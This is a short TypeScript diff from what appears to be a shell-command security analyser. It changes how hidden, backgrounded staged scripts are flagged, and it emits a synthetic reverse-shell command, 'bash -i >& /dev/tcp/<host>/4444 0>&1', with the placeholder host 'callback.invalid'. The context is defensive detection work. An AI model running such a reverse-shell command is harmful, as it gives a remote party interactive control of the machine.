@@ -94,9 +94,13 @@ export function stagedShellEffects(l: LineView, out: Effect[]): void {
     const at = remoteEndpoint(t.ops);
     const hidden = basename(t.file).startsWith('.');
     // detached: nohup/setsid, or put in the background with its output thrown away
-    const background = t.detached || (LONE_AMPERSAND.test(l.text) && c.redirs.some((r) => r.target === '/dev/null'));
+    const background =
+      t.detached ||
+      DETACHED.test(l.text) ||
+      (LONE_AMPERSAND.test(l.text) && c.redirs.some((r) => r.target === '/dev/null'));
     if (!at && !(hidden && background)) continue;
-    const host = at?.host ?? '0.0.0.0';
+    // the address is in the payload: a placeholder host the reverse-shell rules read as remote
+    const host = at?.host ?? 'callback.invalid';
     out.push({
       tool: 'exec',
       command: `bash -i >& /dev/tcp/${host}/${at?.port ?? '4444'} 0>&1`,
